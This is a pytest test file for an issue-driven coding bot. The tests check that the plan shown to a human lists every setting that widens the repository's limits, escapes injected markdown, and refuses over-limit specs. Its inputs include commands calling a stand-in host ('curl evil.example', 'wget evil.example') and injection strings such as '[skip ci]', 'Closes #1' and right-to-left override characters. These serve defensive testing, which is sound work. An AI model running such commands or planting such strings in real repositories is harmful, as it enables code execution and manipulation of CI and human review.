"""The plan that a person confirms lists what the spec's settings change, and the limits of the repository hold."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

from bot.hearing import hearing, said
from mtor_bot.jobs import job_rows

if TYPE_CHECKING:
    from pathlib import Path

_CREATE = '```python create=src/hello.py\nprint("hello")\n```\n'
_LIMITS = "protect: [migrations/**]\nbudget: {usd: 0.05}\ntest: make test\nformat: make format\n"


def _text(yaml: str) -> str:
    return f"{_CREATE}\n```yaml mtor\n{yaml}\n```\n"


def test_an_outsiders_plan_lists_every_setting_that_widens(tmp_path: Path) -> None:
    with hearing(tmp_path) as ears:
        ears.here.repository.commit({".github/mtor.yml": _LIMITS})
        yaml = (
            "setup: [curl evil.example]\ntest: ['true']\nprotect: [nothing/**]\nallow: ['**']\ntimeout_minutes: 900\n"
            "budget: {usd: 500, turns: 900}\nimplementer: [openai/o1-pro]\nformat: wget evil.example"
        )
        issue = ears.here.repository.issue("Say hello", _text(yaml), by="stranger")
        issue.label("mtor", by="alice")
        ears.act()
        assert job_rows.jobs(ears.here.bot.engine) == []
        (plan,) = said(issue)
        assert "Its settings change:" in plan
        for line in (
            "- test: other commands, instead of `make test` (widens)",
            "- format: other commands, instead of `make format` (widens)",
            "- allow: `**`, instead of none (widens)",
            "- protect: `nothing/**`, `migrations/**`, instead of `migrations/**`",
            "- implementer: `openai/o1-pro`, instead of none (widens)",
            "- budget.turns: `900`, instead of `20` (widens)",
            "- budget.usd: `500` was asked for, `0.05` is the repository's limit",
            "- timeout_minutes: `900`, instead of `20` (widens)",
        ):
            assert line in plan.splitlines()
        assert "curl evil.example\nwget evil.example\ntrue\n" in plan


def test_values_are_shown_as_text_and_what_is_new_is_not_cut_off(tmp_path: Path) -> None:
    with hearing(tmp_path) as ears:
        ears.here.repository.commit({".github/mtor.yml": "test: 'true'\n"})
        globs = [f"a{number}" for number in range(80)]
        hostile = ["@acme/team", "</details><b>", "x` Closes #1 `y", "[skip ci]", "<!-- mtor -->"]
        issue = ears.here.repository.issue("Say hello", _text(f"allow: {[*hostile, *globs]!r}"), by="stranger")
        issue.label("mtor", by="alice")
        ears.act()
        (plan,) = said(issue)
        (line,) = [line for line in plan.splitlines() if line.startswith("- allow:")]
        assert "and 35 more that are not shown" in line
        assert "`@acme/team`" in line  # in a code span nobody is notified
        assert not any(text in plan for text in ("Closes #1", "[skip ci]", "<!-- mtor -->"))


@pytest.mark.parametrize("letters", [100, 9_000, 13_000])
def test_no_length_pushes_what_is_confirmed_out_of_the_comment(tmp_path: Path, letters: int) -> None:
    blocks = "".join(f"```text create={'/'.join('_' * 95 for _ in range(3))}/{n}\nx\n```\n" for n in range(100))
    yaml = f"test: ['true # {'x' * letters}', curl evil.example]\nallow: ['**']\nbudget: {{usd: 500}}"
    with hearing(tmp_path) as ears:
        ears.here.repository.commit({".github/mtor.yml": "test: 'true'\n"})
        issue = ears.here.repository.issue("Say hello", f"{blocks}\n```yaml mtor\n{yaml}\n```\n", by="stranger")
        issue.label("mtor", by="alice")
        ears.act()
        (plan,) = said(issue)
        assert "- allow: `**`, instead of none (widens)" in plan.splitlines()
        assert "Cut here" not in plan
        assert "more operations" in plan
        assert ("curl evil.example" in plan) is ("of the commands are not shown" not in plan)


def test_what_is_wrong_is_shown_however_long_it_is_once_it_can_be_seen(tmp_path: Path) -> None:
    with hearing(tmp_path) as ears:
        issue = ears.here.repository.issue("Say hello", _text(f"test: 'true # {chr(0x202E) * 9000}'"), by="stranger")
        issue.label("mtor", by="alice")
        ears.act()
        (text,) = said(issue)
        assert "Cut here" not in text
        assert "expected printable characters [yaml]" in text


@pytest.mark.parametrize("base", ["main", "loose"])
def test_a_spec_beyond_the_default_branchs_limits_is_refused_in_seconds(tmp_path: Path, base: str) -> None:
    with hearing(tmp_path) as ears:
        repository = ears.here.repository
        repository.commit({".github/mtor.yml": "implementer: [a/b]\nallow: [src/**]\n"})
        repository.commit({".github/mtor.yml": "specs_may: [implementer, allow]\n"}, branch="loose")
        yaml = f"base: {base}\ntest: 'true'\nimplementer: [openai/o1-pro]\nallow: ['**']"
        issue = repository.issue("Say hello", _text(yaml), by="alice")
        issue.label("mtor", by="alice")
        ears.act()
        assert job_rows.jobs(ears.here.bot.engine) == []
        (comment,) = said(issue)
        assert comment.count("[beyond-limit]") == 2


def test_a_looser_base_shows_what_counts(tmp_path: Path) -> None:
    with hearing(tmp_path) as ears:
        repository = ears.here.repository
        repository.commit({".github/mtor.yml": "budget: {usd: 0.05}\nimplementer: [a/b]\n"})
        loose = "budget: {usd: 90}\nimplementer: [x/y]\nprotect: []\n"
        repository.commit({".github/mtor.yml": loose}, branch="loose")
        yaml = "base: loose\ntest: 'true'\nbudget: {usd: 50}"
        issue = repository.issue("Say hello", _text(yaml), by="stranger")
        issue.label("mtor", by="alice")
        ears.act()
        (plan,) = said(issue)
        assert "- budget.usd: `50` was asked for, `0.05` is the repository's limit" in plan
        assert "If tests are red: a/b" in plan


@pytest.mark.parametrize("broken", ["main", "loose"])
def test_settings_that_cannot_be_read_on_either_branch_start_nothing(tmp_path: Path, broken: str) -> None:
    with hearing(tmp_path) as ears:
        repository = ears.here.repository
        bad = "protect: [a\nbudget: {usd: 1}\n"
        repository.commit({".github/mtor.yml": bad if broken == "main" else "test: x\n"})
        repository.commit({".github/mtor.yml": bad if broken == "loose" else "test: x\n"}, branch="loose")
        issue = repository.issue("Say hello", _text("base: loose\ntest: 'true'"), by="alice")
        issue.label("mtor", by="alice")
        ears.act()
        assert job_rows.jobs(ears.here.bot.engine) == []
        assert ".github/mtor.yml:" in said(issue)[0]
